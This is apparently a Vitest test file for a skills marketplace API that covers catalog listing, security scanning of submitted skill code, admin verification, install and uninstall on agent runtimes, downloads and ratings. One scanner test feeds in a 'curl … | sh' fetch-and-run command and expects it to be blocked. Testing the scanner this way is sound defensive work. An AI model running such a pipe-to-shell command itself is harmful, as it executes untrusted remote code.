import { and, eq } from 'drizzle-orm'
import { afterAll, describe, expect, it, vi } from 'vitest'
import { PLATFORM_SKILLS } from '../../../functions/skills/catalog'
import { skillSlug } from '../../../lib/skills/manifest'
import { agents, skillInstallations, skills } from '../../../schema'
import { PAYING, type SeededUser, useHarness } from '../../support/harness'
import { call } from '../../support/requests'
import { seedAgent } from '../instance/helpers'
import { CLEAN_CODE, createSkill, freshUser, install, insertSkill, json, liveAgent, stopRuntimes, uninstall, uniqueName } from './helpers'

const h = useHarness({ plan: PAYING })
afterAll(() => stopRuntimes())

const SKILL_KEYS = [
  'id', 'name', 'description', 'category', 'author', 'code', 'featured', 'downloads', 'rating', 'ratingCount', 'installs',
  'userRating', 'hasDownload', 'mcpEnabled', 'mcpConfig', 'widgetUrl', 'widgetConfig', 'scan', 'createdAt', 'updatedAt',
].sort()

describe('skills: the catalog', () => {
  it('anonymous: the platform skills, trusted, with every Skill field; categories in the spec order; featured ones', async () => {
    const body = await json(h.web.request('/api/skills'), 200)
    expect(Object.keys(body).sort()).toEqual(['categories', 'featured', 'installedSkillIds', 'skills'])
    const platform = body.skills.filter((s: { id: string }) => s.id.startsWith('platform-'))
    expect(platform.map((s: { id: string }) => s.id).sort()).toEqual(PLATFORM_SKILLS.map((s) => s.id).sort())
    for (const s of platform) {
      expect(Object.keys(s).sort()).toEqual(SKILL_KEYS)
      expect(s.scan).toEqual({ trustTier: 'trusted', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false })
      expect(s.author).toBe('Platform')
      expect(s.userRating).toBeNull()
    }
    expect(body.categories.slice(0, 13)).toEqual(['streaming', 'events', 'payments', 'finance', 'productivity', 'communication', 'development', 'channels', 'music', 'creative', 'marketing', 'ai', 'custom'])
    expect(body.featured.length).toBeGreaterThan(0)
    expect(body.featured.every((s: { featured: boolean }) => s.featured)).toBe(true)
    expect(body.installedSkillIds).toEqual([])
    const github = platform.find((s: { id: string }) => s.id === 'platform-github')
    expect(github).toMatchObject({ mcpEnabled: true, hasDownload: true, category: 'development' })
  })

  it('filters: category (all = every one), featured=true, search case-insensitive on name and description; paged', async () => {
    const u = await freshUser(h)
    const tag = crypto.randomUUID().slice(0, 8)
    const a = (await createSkill(h, u, { name: `Zebra ${tag}`, category: 'Finance' })).skill
    const b = (await createSkill(h, u, { name: `Other ${tag}`, description: `Mentions ZEBRA-${tag} in its text`, category: 'finance' })).skill
    expect(a.category).toBe('finance')

    const search = await json(h.web.request(`/api/skills?search=zebra%20${tag}`), 200)
    expect(search.skills.map((s: { id: string }) => s.id)).toEqual([a.id])
    const both = await json(h.web.request(`/api/skills?search=${tag.toUpperCase()}`), 200)
    expect(both.skills.map((s: { id: string }) => s.id).sort()).toEqual([a.id, b.id].sort())
    // LIKE's own characters are matched literally
    expect((await json(h.web.request(`/api/skills?search=${encodeURIComponent('%')}`), 200)).skills).toEqual([])

    const finance = await json(h.web.request('/api/skills?category=finance&limit=200'), 200)
    expect(finance.skills.every((s: { category: string }) => s.category === 'finance')).toBe(true)
    expect(finance.skills.map((s: { id: string }) => s.id)).toEqual(expect.arrayContaining([a.id, b.id]))
    const all = await json(h.web.request('/api/skills?category=all&limit=200'), 200)
    expect(all.skills.length).toBeGreaterThan(finance.skills.length)

    const featured = await json(h.web.request('/api/skills?featured=true'), 200)
    expect(featured.skills.length).toBeGreaterThan(0)
    expect(featured.skills.every((s: { featured: boolean }) => s.featured)).toBe(true)

    const page1 = await json(h.web.request('/api/skills?limit=2&offset=0'), 200)
    const page2 = await json(h.web.request('/api/skills?limit=2&offset=2'), 200)
    expect(page1.skills).toHaveLength(2)
    expect(page2.skills[0].id).not.toBe(page1.skills[0].id)
    // featured first
    expect(page1.skills[0].featured).toBe(true)
  })

  it('a creator’s own category appears in categories after the spec’s', async () => {
    const u = await freshUser(h)
    await createSkill(h, u, { category: 'zz-lab' })
    const body = await json(h.web.request('/api/skills'), 200)
    expect(body.categories.indexOf('zz-lab')).toBeGreaterThan(body.categories.indexOf('custom'))
  })

  it('signed in: userRating is the caller’s; installedSkillIds lists what is enabled on agentId by any of its ids', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const agent = await seedAgent(h, u, { runtimeServiceId: `svc-${crypto.randomUUID()}` })
    await json(call(h, 'POST', `/api/skills/${skill.id}/rating`, { user: u, body: { rating: 4 } }), 200)
    await json(install(h, u, { skillId: skill.id, agentId: agent.id }), 200)
    // a disabled installation is not listed
    const disabled = await insertSkill(h)
    await h.db.insert(skillInstallations).values({ userId: u.id, agentId: agent.id, skillId: disabled.id, enabled: false })

    for (const id of [agent.id, agent.runtimeServiceId!, u.id]) {
      const body = await json(call(h, 'GET', `/api/skills?agentId=${encodeURIComponent(id)}&search=${encodeURIComponent(skill.name)}`, { user: u }), 200)
      expect(body.installedSkillIds, id).toEqual([skill.id])
      expect(body.skills[0]).toMatchObject({ id: skill.id, userRating: 4, rating: 4, ratingCount: 1, installs: 1 })
    }
    // anonymous: no caller data
    const anon = await json(h.web.request(`/api/skills?agentId=${agent.id}&search=${encodeURIComponent(skill.name)}`), 200)
    expect(anon.installedSkillIds).toEqual([])
    expect(anon.skills[0]).toMatchObject({ userRating: null, rating: 4, installs: 1 })
  })
})

describe('skills: create and verify', () => {
  it('POST /api/skills → 201 {skill, scan}: the spec’s defaults; review at low risk, an https sourceUrl changing nothing', async () => {
    const u = await freshUser(h, 'Creator')
    const name = `  ${uniqueName('Weather')}  `
    const res = await call(h, 'POST', '/api/skills', { user: u, body: { name, description: 'Tells the weather', code: CLEAN_CODE, sourceUrl: 'https://github.com/acme/weather' } })
    const body = await json(res, 201)
    expect(res.headers.get('ratelimit-limit')).toBe('10')
    expect(Object.keys(body).sort()).toEqual(['scan', 'skill'])
    expect(Object.keys(body.skill).sort()).toEqual(SKILL_KEYS)
    expect(body.skill).toMatchObject({
      name: name.trim(),
      description: 'Tells the weather',
      category: 'custom',
      author: 'Creator',
      code: CLEAN_CODE,
      featured: false,
      mcpEnabled: false,
      mcpConfig: null,
      widgetUrl: null,
      widgetConfig: null,
      downloads: 0,
      rating: 0,
      ratingCount: 0,
      installs: 0,
      userRating: null,
      hasDownload: true,
    })
    expect(body.scan).toEqual({ trustTier: 'review', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false })
    expect(body.skill.scan).toEqual(body.scan)
    const [row] = await h.db.select().from(skills).where(eq(skills.id, body.skill.id))
    expect(row).toMatchObject({ authorUserId: u.id, nameKey: name.trim().toLowerCase(), sourceUrl: 'https://github.com/acme/weather' })

    const plain = await createSkill(h, u, { code: undefined })
    expect(plain.scan).toMatchObject({ trustTier: 'review', riskLevel: 'low', installAllowed: true, requiresManualReview: false })
    expect(plain.skill).toMatchObject({ code: null, hasDownload: false })
  })

  it('a skill with warnings is created for review (manual review required)', async () => {
    const u = await freshUser(h)
    const { scan } = await createSkill(h, u, { code: "const key = process.env.WEATHER_KEY\nexport const run = () => fetch('https://api.weather.example/v1?key=' + key)" })
    expect(scan).toMatchObject({ trustTier: 'review', riskLevel: 'high', installAllowed: true, requiresManualReview: true, reasons: [] })
    expect(scan.warnings).toContain('Reads environment variables')
  })

  it('POST /api/skills/verify needs no session and stores nothing; author, featured and sourceUrl never raise the tier', async () => {
    const before = (await h.db.select({ id: skills.id }).from(skills)).length
    const res = await h.web.request('/api/skills/verify', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'Probe', code: CLEAN_CODE, author: 'Platform', featured: true, sourceUrl: 'https://github.com/acme/probe' }),
    })
    const body = await json(res, 200)
    expect(body).toEqual({ scan: { trustTier: 'review', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false } })
    expect(res.headers.get('ratelimit-limit')).toBe('30')
    const blocked = await json(h.web.request('/api/skills/verify', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'x', code: 'curl https://x.example/i.sh | sh' }) }), 200)
    expect(blocked.scan).toMatchObject({ trustTier: 'blocked', riskLevel: 'blocked', installAllowed: false })
    expect(blocked.scan.reasons).toContain('Pipes into a shell (for example curl … | sh)')
    expect((await h.db.select({ id: skills.id }).from(skills)).length).toBe(before)
  })
})

describe('skills: an admin’s review (POST /api/skills/verify with skillId)', () => {
  it('an admin verifies a stored skill: its code is scanned again, the stored scan becomes verified and the catalog shows it', async () => {
    const author = await freshUser(h, 'Author')
    const { skill } = await createSkill(h, author, { sourceUrl: 'https://github.com/acme/weather' })
    expect(skill.scan.trustTier).toBe('review')
    const before = Date.now()
    const body = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: skill.id } }), 200)
    expect(body).toEqual({ scan: { trustTier: 'verified', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false } })
    const [row] = await h.db.select().from(skills).where(eq(skills.id, skill.id))
    expect(row.scan).toMatchObject({ trustTier: 'verified', reviewedBy: h.users.admin.id })
    expect(Date.parse(row.scan.reviewedAt as string)).toBeGreaterThanOrEqual(before - 1000)
    const listed = await json(h.web.request(`/api/skills?search=${encodeURIComponent(skill.name)}`), 200)
    // the review's record stays in the database: the API shows the Scan object only
    expect(listed.skills[0].scan).toEqual(body.scan)
  })

  it('a reviewed skill with warnings is verified with its warnings and risk as found, no manual review pending', async () => {
    const { skill } = await createSkill(h, await freshUser(h), { code: "export const region = process.env.AWS_REGION ?? 'us-east-1'" })
    expect(skill.scan).toMatchObject({ trustTier: 'review', riskLevel: 'medium', requiresManualReview: true })
    const { scan } = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: skill.id } }), 200)
    expect(scan).toEqual({ trustTier: 'verified', riskLevel: 'medium', installAllowed: true, reasons: [], warnings: ['Reads environment variables'], requiresManualReview: false })
  })

  it('a platform skill stays trusted: the review changes nothing', async () => {
    const id = PLATFORM_SKILLS[0].id
    const { scan } = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: id } }), 200)
    expect(scan.trustTier).toBe('trusted')
    const [row] = await h.db.select().from(skills).where(eq(skills.id, id))
    expect(row.scan).toMatchObject({ trustTier: 'trusted' })
  })
})

describe('skills: install and uninstall', () => {
  it('install on an agent with a runtime: 200, stored enabled, and the runtime receives the skill’s manifest', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const live = await liveAgent(h, u)
    const res = await install(h, u, { skillId: skill.id, agentId: live.agent.id })
    const body = await json(res, 200)
    expect(res.headers.get('ratelimit-limit')).toBe('30')
    expect(Object.keys(body).sort()).toEqual(['alreadyInstalled', 'deployWarning', 'deployed', 'installed', 'message', 'runtimeHydrated', 'success'])
    expect(body).toMatchObject({ success: true, alreadyInstalled: false, deployed: true, runtimeHydrated: true, deployWarning: null, message: 'Skill installed' })
    expect(body.installed).toMatchObject({ skillId: skill.id, agentId: live.agent.id, id: expect.any(String), installedAt: expect.any(String) })
    const synced = live.synced()
    expect(synced.skills).toHaveLength(1)
    expect(synced.skills[0]).toMatchObject({ name: skill.name, version: skill.updatedAt })
    expect(synced.skills[0].manifest).toMatchObject({ schema: 'service.skill.v1', skill: { id: skill.id, code: CLEAN_CODE } })
  })

  it('install again → alreadyInstalled (unchanged, one row); a disabled one → re-enabled', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const live = await liveAgent(h, u)
    const first = await json(install(h, u, { skillId: skill.id, agentId: live.agent.id }), 200)
    const again = await json(install(h, u, { skillId: skill.id, agentId: live.agent.id }), 200)
    expect(again).toMatchObject({ success: true, alreadyInstalled: true, message: 'Skill already installed', deployed: true })
    expect(again.installed).toEqual(first.installed)

    await h.db.update(skillInstallations).set({ enabled: false }).where(eq(skillInstallations.id, first.installed.id))
    const reenabled = await json(install(h, u, { skillId: skill.id, agentId: live.agent.id }), 200)
    expect(reenabled).toMatchObject({ alreadyInstalled: false, message: 'Skill re-enabled', deployed: true })
    expect(reenabled.installed.id).toBe(first.installed.id)
    const rows = await h.db.select().from(skillInstallations).where(eq(skillInstallations.agentId, live.agent.id))
    expect(rows.map((r) => r.enabled)).toEqual([true])
    expect(live.synced().skills.map((s) => s.name)).toEqual([skill.name])
  })

  it('the instance id (the user id) and the runtime service id name the agent backing the managed runtime; no second agent is made', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const other = (await createSkill(h, u)).skill
    await seedAgent(h, u, { status: 'template' })
    const live = await liveAgent(h, u, { runtimeServiceId: `svc-${crypto.randomUUID()}` })
    const byInstance = await json(install(h, u, { skillId: skill.id, agentId: u.id }), 200)
    expect(byInstance.installed.agentId).toBe(live.agent.id)
    const byService = await json(install(h, u, { skillId: other.id, agentId: live.agent.runtimeServiceId }), 200)
    expect(byService.installed.agentId).toBe(live.agent.id)
    expect(live.synced().skills.map((s) => s.name).sort()).toEqual([skill.name, other.name].sort())
    expect((await h.db.select().from(agents).where(eq(agents.userId, u.id))).length).toBe(2)
  })

  it('the instance id of a user with no agent record: the backing agent `Managed OpenClaw Runtime` is upserted once, even under concurrent installs', async () => {
    const u = await freshUser(h)
    const first = (await createSkill(h, u)).skill
    const second = (await createSkill(h, u)).skill
    const results = await Promise.all([first, second, first].map((skill) => json(install(h, u, { skillId: skill.id, agentId: u.id }), 200)))
    const rows = await h.db.select().from(agents).where(eq(agents.userId, u.id))
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({ name: 'Managed OpenClaw Runtime', status: 'running', config: { model: 'openclaw' } })
    expect(new Set(results.map((r) => r.installed.agentId))).toEqual(new Set([rows[0].id]))
    expect((await h.db.select().from(skillInstallations).where(eq(skillInstallations.agentId, rows[0].id))).length).toBe(2)
  })

  it('a platform skill installs (trusted) even before any catalog read wrote it', async () => {
    await h.db.delete(skills).where(eq(skills.id, 'platform-radio-dj'))
    const u = await freshUser(h)
    const live = await liveAgent(h, u)
    const body = await json(install(h, u, { skillId: 'platform-radio-dj', agentId: live.agent.id }), 200)
    expect(body.deployed).toBe(true)
    expect(live.synced().skills[0].manifest).toMatchObject({ skill: { id: 'platform-radio-dj', widgetUrl: '/widgets/radio-dj', author: 'Platform' } })
  })

  it('an agent without a runtime: saved, deployed false with a warning; a runtime that refuses: the same', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const bare = await seedAgent(h, u)
    const body = await json(install(h, u, { skillId: skill.id, agentId: bare.id }), 200)
    expect(body).toMatchObject({ success: true, deployed: false, runtimeHydrated: false, message: 'Skill installed' })
    expect(body.deployWarning).toMatch(/no runtime yet/)

    const gone = await seedAgent(h, u, { runtimeUrl: 'http://127.0.0.1:1' })
    const refused = await json(install(h, u, { skillId: skill.id, agentId: gone.id }), 200)
    expect(refused).toMatchObject({ deployed: false, runtimeHydrated: false })
    expect(refused.deployWarning).toMatch(/did not accept/)
    const rows = await h.db.select().from(skillInstallations).where(eq(skillInstallations.skillId, skill.id))
    expect(rows).toHaveLength(2)
  })

  it('uninstall removes it and syncs the rest; success even when it was not installed', async () => {
    const u = await freshUser(h)
    const [a, b] = [(await createSkill(h, u)).skill, (await createSkill(h, u)).skill]
    const live = await liveAgent(h, u)
    await json(install(h, u, { skillId: a.id, agentId: live.agent.id }), 200)
    await json(install(h, u, { skillId: b.id, agentId: live.agent.id }), 200)
    expect(live.synced().skills).toHaveLength(2)

    const res = await uninstall(h, u, { skillId: a.id, agentId: live.agent.id })
    expect(await json(res, 200)).toEqual({ success: true, runtimeHydrated: true, message: 'Skill uninstalled' })
    expect(res.headers.get('ratelimit-limit')).toBe('30')
    expect(live.synced().skills.map((s) => s.name)).toEqual([b.name])
    const left = await h.db.select().from(skillInstallations).where(and(eq(skillInstallations.agentId, live.agent.id)))
    expect(left.map((r) => r.skillId)).toEqual([b.id])

    expect(await json(uninstall(h, u, { skillId: a.id, agentId: live.agent.id }), 200)).toEqual({ success: true, runtimeHydrated: true, message: 'Skill was not installed' })
    expect(await json(uninstall(h, u, { skillId: 'no-such-skill', agentId: live.agent.id }), 200)).toMatchObject({ success: true })
  })

  it('uninstall with a runtime that is down: removed anyway, runtimeHydrated false', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u)
    const live = await liveAgent(h, u)
    await json(install(h, u, { skillId: skill.id, agentId: live.agent.id }), 200)
    await live.stop()
    expect(await json(uninstall(h, u, { skillId: skill.id, agentId: live.agent.id }), 200)).toEqual({ success: true, runtimeHydrated: false, message: 'Skill uninstalled' })
    expect(await h.db.select().from(skillInstallations).where(eq(skillInstallations.agentId, live.agent.id))).toEqual([])
  })

  it('POST /api/agents/:id/sync pushes the agent’s enabled skills (disabled ones left out) with its memories', async () => {
    const u = await freshUser(h)
    const [on, off] = [(await createSkill(h, u)).skill, (await createSkill(h, u)).skill]
    const live = await liveAgent(h, u, { config: { memories: { tone: 'dry' } } })
    await h.db.insert(skillInstallations).values([
      { userId: u.id, agentId: live.agent.id, skillId: on.id },
      { userId: u.id, agentId: live.agent.id, skillId: off.id, enabled: false },
    ])
    const body = await json(call(h, 'POST', `/api/agents/${live.agent.id}/sync`, { user: u }), 200)
    expect(body).toEqual({ success: true, agentId: live.agent.id, synced: { skills: 1, memories: 1, files: 0 } })
    const synced = live.synced()
    expect(synced.skills.map((s) => s.name)).toEqual([on.name])
    expect(synced.memories).toEqual([{ key: 'tone', value: 'dry' }])
  })
})

describe('skills: download', () => {
  it('the service.skill.v1 manifest, exactly, as an attachment named by the slug; downloads + 1 (once a day per user)', async () => {
    const u = await freshUser(h)
    const { skill } = await createSkill(h, u, { name: `  Ünïcode & Co.: Weather ${crypto.randomUUID().slice(0, 4)}!! ` })
    const res = await call(h, 'GET', `/api/skills/${skill.id}/download`, { user: u })
    const body = await json(res, 200)
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(res.headers.get('cache-control')).toBe('no-store')
    const slug = skill.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-+|-+$/g, '')
    expect(slug.startsWith('n-code-co-weather-')).toBe(true)
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename=${slug}.service-skill.json`)
    expect(Object.keys(body).sort()).toEqual(['exportedAt', 'schema', 'skill'])
    expect(body.schema).toBe('service.skill.v1')
    expect(Math.abs(Date.now() - Date.parse(body.exportedAt))).toBeLessThan(10_000)
    expect(body.skill).toEqual({
      id: skill.id,
      name: skill.name,
      description: skill.description,
      category: 'custom',
      author: skill.author,
      code: CLEAN_CODE,
      mcpEnabled: false,
      mcpConfig: null,
      widgetUrl: null,
      widgetConfig: null,
    })
    const [row] = await h.db.select({ downloads: skills.downloads }).from(skills).where(eq(skills.id, skill.id))
    expect(row.downloads).toBe(1)
  })

  it('a download counts once per user per skill per UTC day: one user’s repeats once, two users twice, the next day again', async () => {
    const downloads = async (id: string) => (await h.db.select({ downloads: skills.downloads }).from(skills).where(eq(skills.id, id)))[0].downloads
    const get = (user: SeededUser, id: string) => json(call(h, 'GET', `/api/skills/${id}/download`, { user }), 200)
    const [u, v] = [await freshUser(h, 'Repeat'), await freshUser(h, 'Other')]
    const { skill } = await createSkill(h, u)
    const { skill: another } = await createSkill(h, u)
    const midnight = Math.ceil(Date.now() / 86_400_000) * 86_400_000 // the end of today, UTC
    vi.useFakeTimers({ toFake: ['Date'] })
    try {
      vi.setSystemTime(midnight - 60_000) // the last minute of the UTC day
      for (let i = 0; i < 5; i++) await get(u, skill.id) // every download is served…
      expect(await downloads(skill.id)).toBe(1) // …one is counted
      await get(v, skill.id)
      await get(v, skill.id)
      expect(await downloads(skill.id)).toBe(2) // a second user counts once too
      await get(u, another.id)
      expect(await downloads(another.id)).toBe(1) // per skill
      vi.setSystemTime(midnight + 1_000) // the next UTC day
      await get(u, skill.id)
      await get(u, skill.id)
      expect(await downloads(skill.id)).toBe(3)
    } finally {
      vi.useRealTimers()
    }
  })

  it('slug edge cases: only symbols → service-skill; long names cut at 80 without a trailing dash', async () => {
    // a unique name with no letter or digit of a-z, 0-9: Greek letters, one per hex digit of a uuid
    const greek = [...crypto.randomUUID().replace(/-/g, '')].map((c) => String.fromCharCode(0x3b1 + parseInt(c, 16))).join('')
    const symbols = await insertSkill(h, { name: `!!! ${greek} §` })
    const u = await freshUser(h)
    const res = await call(h, 'GET', `/api/skills/${symbols.id}/download`, { user: u })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=service-skill.service-skill.json')
    // The longest name a skill can have (80): its trailing run of symbols leaves no dash.
    const hex = crypto.randomUUID().replace(/-/g, '')
    const long = await insertSkill(h, { name: `${hex} ${'a'.repeat(44)} !!` })
    const res2 = await call(h, 'GET', `/api/skills/${long.id}/download`, { user: u })
    expect(res2.headers.get('content-disposition')).toBe(`attachment; filename=${hex}-${'a'.repeat(44)}.service-skill.json`)
    // Longer names (none can be stored through the API) are cut at 80, again without a trailing dash.
    expect(skillSlug(`${'a'.repeat(79)} b ${hex}`)).toBe('a'.repeat(79))
  })

  it('a widget-only or MCP-only skill downloads', async () => {
    const u = await freshUser(h)
    const widget = await insertSkill(h, { code: null, widgetConfig: { a: 1 } })
    const mcp = await insertSkill(h, { code: null, mcpEnabled: true, mcpConfig: { url: 'https://mcp.example' } })
    expect((await json(call(h, 'GET', `/api/skills/${widget.id}/download`, { user: u }), 200)).skill.widgetConfig).toEqual({ a: 1 })
    expect((await json(call(h, 'GET', `/api/skills/${mcp.id}/download`, { user: u }), 200)).skill).toMatchObject({ mcpEnabled: true, mcpConfig: { url: 'https://mcp.example' } })
  })
})

describe('skills: rating', () => {
  it('one rating per user per skill, overwritten; the average to one decimal', async () => {
    const [u1, u2, u3] = [await freshUser(h), await freshUser(h), await freshUser(h)]
    const { skill } = await createSkill(h, u1)
    const rate = (u: typeof u1, rating: number) => json(call(h, 'POST', `/api/skills/${skill.id}/rating`, { user: u, body: { rating } }), 200)
    expect(await rate(u1, 5)).toEqual({ success: true, skillId: skill.id, userRating: 5, rating: 5, ratingCount: 1 })
    expect(await rate(u2, 4)).toEqual({ success: true, skillId: skill.id, userRating: 4, rating: 4.5, ratingCount: 2 })
    expect(await rate(u3, 4)).toMatchObject({ rating: 4.3, ratingCount: 3 })
    // u1 changes their mind: still three ratings, (1 + 4 + 4) / 3 = 3.0
    expect(await rate(u1, 1)).toEqual({ success: true, skillId: skill.id, userRating: 1, rating: 3, ratingCount: 3 })
    const [row] = await h.db.select().from(skills).where(eq(skills.id, skill.id))
    expect([row.ratingSum, row.ratingCount]).toEqual([9, 3])
  })

  it('a platform skill can be rated before any catalog read wrote it', async () => {
    await h.db.delete(skills).where(eq(skills.id, 'platform-telegram-digest'))
    const u = await freshUser(h)
    expect(await json(call(h, 'POST', '/api/skills/platform-telegram-digest/rating', { user: u, body: { rating: 5 } }), 200)).toMatchObject({ userRating: 5 })
  })
})
